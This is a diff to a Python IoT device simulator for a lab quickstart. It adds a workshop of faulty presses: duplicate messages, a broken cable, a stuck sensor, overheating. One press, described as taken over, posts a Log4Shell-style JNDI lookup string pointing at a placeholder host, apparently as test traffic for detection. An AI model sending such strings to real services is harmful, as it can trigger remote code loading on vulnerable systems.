@@ -2,7 +2,10 @@
 # SPDX-License-Identifier: Apache-2.0
 """Simulated devices for quickstart, speaking through the kernel's sockets inside the lab's
 namespace: line protocol and JSON over UDP, CoAP by libcoap's coap-client, MQTT 3.1.1 and 5 by
-mosquitto_pub, protected frames by the reference sender. Runs until SIGTERM."""
+mosquitto_pub, protected frames by the reference sender; and a workshop whose presses misbehave, each
+in its own way. Runs until SIGTERM.
+
+  devices.py [KIND...]     only these: line_protocol, json_over_udp, coap, mqtt, protected_frames, workshop"""
 
 import json
 import math
@@ -89,6 +92,40 @@ def mqtt():
         p.wait(5)
 
 
+def press(number):
+    """mosquitto_pub -l for one press of the workshop (config/profiles/workshop.yaml)."""
+    return subprocess.Popen(
+        ["mosquitto_pub", "-h", TARGET, "-V", "5", "-q", "1", "-i", f"press-{number}",
+         "-t", f"shop/press-{number}/machine", "-l"],
+        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+
+def workshop():
+    """press-1 sends every fifth message twice, press-2 has a broken cable, the sensor of press-3 is
+    stuck, press-4 runs hot once and cools down, and press-5 has been taken over."""
+    presses = {n: press(n) for n in (1, 2, 3, 4)}
+    start, seq = time.monotonic(), 0
+    for now in every(0.5):
+        seq += 1
+        hot = 95 if 4 <= time.monotonic() - start < 9 else 70
+        temps = {1: temperature(1, now), 2: 9999 if seq % 4 == 0 else 61.5, 3: 42.0, 4: hot + random.random()}
+        for n, p in presses.items():
+            line = json.dumps({"time": int(now * 1000), "seq": seq, "temp": temps[n]}).encode() + b"\n"
+            if p.poll() is None:
+                p.stdin.write(line * (2 if n == 1 and seq % 5 == 0 else 1))
+                p.stdin.flush()
+        if seq % 6 == 0:
+            subprocess.run(
+                ["coap-client", "-B", "5", "-m", "post", "-t", "application/json",
+                 "-e", json.dumps({"time": int(now * 1000), "seq": seq, "temp": 20, "note": "${jndi:ldap://198.51.100.7/a}"}),
+                 f"coap://{TARGET}/shop/press-5/machine"],
+                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, check=False)
+    for p in presses.values():
+        p.stdin.close()
+        p.terminate()
+        p.wait(5)
+
+
 def frame_keys():
     """The laboratory's key file: (device, algorithm, number, key)."""
     for line in (TOP / "config" / "examples" / "frame.keys").read_text().splitlines():
@@ -111,7 +148,11 @@ def protected_frames():
 
 def main():
     signal.signal(signal.SIGTERM, lambda *_: stop.set())
-    threads = [threading.Thread(target=f, daemon=True) for f in (line_protocol, json_over_udp, coap, mqtt, protected_frames)]
+    kinds = {f.__name__: f for f in (line_protocol, json_over_udp, coap, mqtt, protected_frames, workshop)}
+    unknown = [name for name in sys.argv[1:] if name not in kinds]
+    if unknown:
+        sys.exit(f"devices.py: no {', '.join(unknown)}; there are {', '.join(kinds)}")
+    threads = [threading.Thread(target=kinds[name], daemon=True) for name in sys.argv[1:] or kinds]
     for t in threads:
         t.start()
     while not stop.wait(1.0):
